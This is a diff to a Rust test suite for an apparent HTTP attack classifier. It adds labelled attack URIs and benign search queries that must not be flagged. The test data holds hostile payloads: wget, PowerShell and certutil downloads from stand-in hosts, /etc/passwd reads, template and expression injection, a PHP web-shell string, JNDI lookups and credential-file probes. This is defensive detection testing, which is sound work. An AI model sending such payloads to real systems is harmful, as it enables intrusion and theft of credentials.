@@ -57,8 +57,38 @@ fn attacks_are_recognised() {
         ("/x?c=$(wget%20http://x.example/a.sh)", CommandInjection),
         (
             "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
+            KnownExploit,
+        ),
+        ("/ping?ip=127.0.0.1%0acat%20/etc/passwd", CommandInjection),
+        ("/ping?ip=127.0.0.1%26%26whoami", CommandInjection),
+        ("/ping?ip=127.0.0.1;w'h'o'am'i", CommandInjection),
+        ("/x?c=%26%20type%20C:%5Cwindows%5Cwin.ini", CommandInjection),
+        (
+            "/x?c=%7C%20powershell%20-nop%20-c%20%22IEX(New-Object%20Net.WebClient).DownloadString('http://x/a')%22",
             CommandInjection,
         ),
+        (
+            "/x?c=%26%20certutil%20-urlcache%20-f%20http://x/a.exe",
+            CommandInjection,
+        ),
+        ("/page?name=%7B%7B7*7%7D%7D", CodeInjection),
+        (
+            "/page?name=$%7BT(java.lang.Runtime).getRuntime().exec('id')%7D",
+            CodeInjection,
+        ),
+        (
+            "/page?x=%3C?php%20system($_GET%5B'c'%5D);%20?%3E",
+            CodeInjection,
+        ),
+        ("/page?x=-d+allow_url_include%3d1", CodeInjection),
+        ("/index.php?file=expect://id", FileInclusion),
+        ("/files/..%u2216..%u2216windows%u2216win.ini", PathTraversal),
+        ("/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", PathTraversal),
+        ("/.aws/credentials", SensitiveFile),
+        ("/.cursor/mcp.json", SensitiveFile),
+        ("/example.com.zip", SensitiveFile),
+        ("/mgmt/tm/util/bash", KnownExploit),
+        ("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", KnownExploit),
         ("/?x=${jndi:ldap://x.example/a}", Jndi),
         ("/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", Jndi),
         ("/.env", SensitiveFile),
@@ -73,8 +103,9 @@ fn attacks_are_recognised() {
         ("/wp-includes/wlwmanifest.xml", AdminProbe),
         (
             "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
-            AdminProbe,
+            KnownExploit,
         ),
+        ("/vendor/phpunit/", AdminProbe),
         ("/?XDEBUG_SESSION_START=phpstorm", AdminProbe),
         ("/uploads/shell.php", Webshell),
         ("/wp-content/uploads/2024/03/x.php", Webshell),
@@ -115,6 +146,15 @@ fn benign_requests_are_not_attacks() {
         "/uploads/photo.jpg",
         "/wp-login.php",
         "/admin/",
+        "/search?q=tom+%26+jerry",
+        "/search?q=%22iphone+15%22+case",
+        "/search?q=O%27Reilly",
+        "/search?q=C%3A%5CUsers+folder",
+        "/api/items?filter=a|b",
+        "/search?q=1%3D1+math+quiz",
+        "/owa/",
+        "/jquery.min.zip",
+        "/downloads/example.com.zip",
     ] {
         assert_eq!(kind(uri), None, "{uri}");
     }
@@ -153,7 +193,8 @@ fn scanners_and_header_attacks() {
             b"",
         )
         .unwrap();
-    assert_eq!(sh.kind, AttackKind::CommandInjection);
+    assert_eq!(sh.kind, AttackKind::KnownExploit);
+    assert_eq!(sh.reference, Some("CVE-2014-6271"));
     assert!(
         c.classify(b"GET", b"/", b"python-requests/2.31.0", b"")
             .is_none()
